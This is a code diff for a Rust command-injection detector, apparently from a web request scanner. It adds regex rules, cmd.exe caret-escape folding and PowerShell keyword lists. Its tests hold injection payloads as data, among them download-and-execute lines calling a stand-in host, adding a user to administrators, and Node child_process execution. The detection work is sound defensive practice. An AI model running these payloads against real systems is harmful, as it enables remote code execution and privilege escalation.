             (sqlite.as_str(), High, 0.8, "SQLite shell command"),
+            (delay.as_str(), High, 0.8, "delay command after a shell separator"),
+            (powershell.as_str(), High, 0.85, "PowerShell command"),
         ];
+        let probe = format!(r"^\s*(?:{})(?:\.exe)?\s*$", PROBES.join("|"));
         Ok(Cmdi {
             rules: Rules::new(Family::Cmdi, &table)?,
             strict_rules: Rules::new(
@@ -423,6 +499,9 @@ impl Cmdi {
                     // Ansible, Chef and CrowdSec consoles run anything on every managed host;
                     // their hyphenated names are no word of prose.
                     (AUTOMATION_TOOL, High, 0.7, "automation tool command line"),
+                    (&probe, High, 0.75, "reconnaissance command as the whole value"),
+                    // `& start calc.exe`, `;payload.bat`: an executable run by its file name.
+                    (r#"(?:;|&&|&|\||\$\(|`)\s*(?:start\s+(?:/[a-z]+\s+)*)?(?:"[^"]*\.(?:exe|bat|cmd|ps1|vbs|hta|scr)"|[a-z0-9_\\:.-]+\.(?:exe|bat|cmd|ps1|vbs|hta|scr))(?:\s|$)"#, High, 0.7, "executable run after a shell separator"),
                     // An SMTP verb alone on a line after a line break: a line of an SMTP session.
                     (r"\r?\n\s*(?:data|quit|rset|noop)\s*(?:\r?\n|$)", High, 0.7, "SMTP command injection"),
                     // Batch `IF a==b command` with any command: in a URL, header or form there is
@@ -436,7 +515,7 @@ impl Cmdi {
 
 /// Undoes shell-level obfuscation: quotes and backslashes inside words, empty expansions.
 fn shell_fold(text: &str) -> Cow<'_, str> {
-    if !text.bytes().any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'`')) {
+    if !text.bytes().any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'`' | b'^')) {
         return Cow::Borrowed(text);
     }
     let b = text.as_bytes();
@@ -447,6 +526,8 @@ fn shell_fold(text: &str) -> Cow<'_, str> {
             b'\'' | b'"' => i += 1,
             b'$' | b'`' if empty_substitution(b, i) > 0 => i += empty_substitution(b, i),
             b'\\' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => i += 1,
+            // cmd.exe's escape inside a word (`wh^oami`, `c^m^d`).
+            b'^' if i > 0 && b[i - 1].is_ascii_alphanumeric() && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) => i += 1,
             b'$' => match b.get(i + 1) {
                 Some(b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'0'..=b'9') => i += 2,
                 Some(b'{') => {
@@ -531,8 +612,35 @@ impl Check for Cmdi {
             lit("y2hpbgrfch"),
             lit("noawxkx3by"),
             lit("jaglszf9wc"),
+            lit("chjvy2vzcy"),
+            lit("byb2nlc3mu"),
+            lit("wcm9jzxnzl"),
+            lit("zxzhbchtdh"),
+            lit("v2ywwou3ry"),
+            lit("ldmfskfn0c"),
             lit("constructor"),
             lit("runinnewcontext"),
+            lit("reflect."),
+            gated("invoke-", starts_word),
+            gated("start-", starts_word),
+            gated("new-", starts_word),
+            gated("get-", starts_word),
+            gated("set-", starts_word),
+            gated("add-", starts_word),
+            gated("remove-", starts_word),
+            gated("out-file", starts_word),
+            gated("copy-item", starts_word),
+            gated("move-item", starts_word),
+            gated("stop-", starts_word),
+            gated("register-scheduledtask", starts_word),
+            gated("convertto-securestring", starts_word),
+            lit("%comspec%"),
+            gated("iex", starts_word),
+            gated("iwr", starts_word),
+            gated("irm", starts_word),
+            lit("execsync"),
+            lit("execfilesync"),
+            lit("spawnsync"),
             lit("runinthiscontext"),
             lit("runincontext"),
             lit("globalthis"),
@@ -620,14 +728,14 @@ impl Check for Cmdi {
                 let mut buf = [0u8; 24];
                 return is_command(command_word(text, i, &mut buf));
             }
-            return matches!(text[i] | 0x20, b'a' | b'c') && is_automation_tool(word);
+            return (matches!(text[i] | 0x20, b'a' | b'c') && is_automation_tool(word)) || is_probe(word);
         }
         if is_automation_tool(word) {
             return true;
         }
         let arg = skip_space(text, i + word_len);
         if word_len > 32 || arg >= text.len() {
-            return false;
+            return arg >= text.len() && is_probe(word);
         }
         let shaped = matches!(text[arg], b'-' | b'/' | b'~' | b'$' | b'.' | b'<' | b'>' | b'|' | b'\'' | b'"' | b'%')
             || word.iter().any(|&c| matches!(c, b'-' | b';' | b'|' | b'&'))
@@ -705,7 +813,7 @@ mod tests {
     #[test]
     fn base64_markers_are_the_markers_encoded_at_each_alignment() {
         let mut expected = Vec::new();
-        for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process"] {
+        for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process", b"process.mainModule", b"eval(String.fromCharCode"] {
             for k in 0..3usize {
                 let mut bytes = vec![0u8; k];
                 bytes.extend_from_slice(marker);
@@ -763,6 +871,8 @@ mod tests {
                 ":silent !bash",
                 "session=eyJ4IjoiXyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSJ9",
                 "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLnNwYXduKCdscycp",
+                "eD1wcm9jZXNzLm1haW5Nb2R1bGU=",
+                "ZXZhbChTdHJpbmcuZnJvbUNoYXJDb2RlKDk3KSk=",
                 "process[\"mainModule\"]",
                 "__js_function",
             ],
@@ -917,6 +1027,94 @@ mod tests {
             assert!(!super::hides_command(v.as_bytes(), 0), "{v}");
         }
         assert!(super::hides_command(b"c'a't", 0) && super::hides_command(b"p\\ing", 0) && super::hides_command(b"/bin/c''at", 0));
+    }
+
+    #[test]
+    fn more_programs_and_windows_arguments_after_a_separator() {
+        for v in [
+            "10.0.0.2;xzcat /var/backups/db.xz",
+            "a|sysctl -w net.ipv4.ip_forward=1",
+            "x&&sshpass -p hunter2 ssh admin@db",
+            "1;dmidecode --type memory",
+            "&mklink /j c:\\x c:\\users",
+            "x&auditpol /set /category:logon",
+            "&findstr /si secret *.config",
+            "a;reg query HKCU\\Software\\Run",
+            "q|net localgroup administrators eve /add",
+            "x;gem install rails-backdoor",
+            "x;yarn add left-pad && id",
+            "id;make -f /tmp/Makefile",
+            "a&&patch -p0 < /tmp/x.diff",
+            "x|tree c:\\ /f",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+            assert!(flags_at("attack.cmdi", crate::fields::Part::Body, v), "{v} in a form");
+        }
+        for v in [
+            "Notes; make sure the patch is tested",
+            "Clean code; service - oriented design",
+            "Done; gem install is the next step in the tutorial",
+            "Team A & Team B; join us at the event",
+            "Rock & roll; diff between genres",
+            "Apples & pears; screen them for bruises",
+            "Budget; history of spending 2019 to 2024",
+            "a & b; tree c is the tallest",
+        ] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+        assert!(super::TOOLS.windows(2).all(|w| w[0] < w[1]) && super::WORD_TOOLS.windows(2).all(|w| w[0] < w[1]));
+    }
+
+    #[test]
+    fn node_runtime_reach_and_reconnaissance_probes() {
+        for v in ["x.constructor['constructor']('return this')()", "process . mainModule", "Function('return process')()", "Reflect.construct(Function, ['return this'])", "require('child_process').execSync('id')", "spawnSync('sh', ['-c', 'id'])"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+            assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON body");
+        }
+        for v in ["whoami", " ipconfig ", "systeminfo.exe", "UNAME"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        for v in ["whoami page", "the uname", "Reflect.apply(fn, obj, args)", "syncExec(x)", "function('a')"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+        assert!(!any_flag_in_json("whoami"), "a word in a JSON text field");
+    }
+
+    #[test]
+    fn windows_escapes_delays_powershell_and_executables() {
+        for v in [
+            "x&wh^oami",
+            "x&c^m^d /c dir",
+            "x&%COMSPEC% /c dir",
+            "x;sleep 5",
+            "x|sleep 3;",
+            "a&timeout /t 9",
+            "x;Invoke-WebRequest http://e.example/a -OutFile a.exe",
+            "x|Get-ChildItem C:\\Users",
+            "x&powershell -nop | iex",
+            "x;IEX (iwr http://e.example/a.ps1)",
+            "x&start /b a.exe",
+            "x;chmod 777 /tmp/x",
+            "x;chmod u+x /tmp/x",
+            "x;ps aux",
+            "x;ip addr",
+            "x;/usr/bin/w?oami",
+            "x&move c:\\a c:\\b",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        for v in [
+            "Step 1; sleep 8 hours a night",
+            "Get-together on Friday; bring snacks",
+            "add-on | new-year sale; start-up costs",
+            "x^2 + y^2 = z^2",
+            "IEX exchange listing",
+            "Review: 5 stars; ps: thanks!",
+            "Files: report.exe; notes.txt",
+            "chmod 755 is common",
+        ] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
     }
 
     #[test]
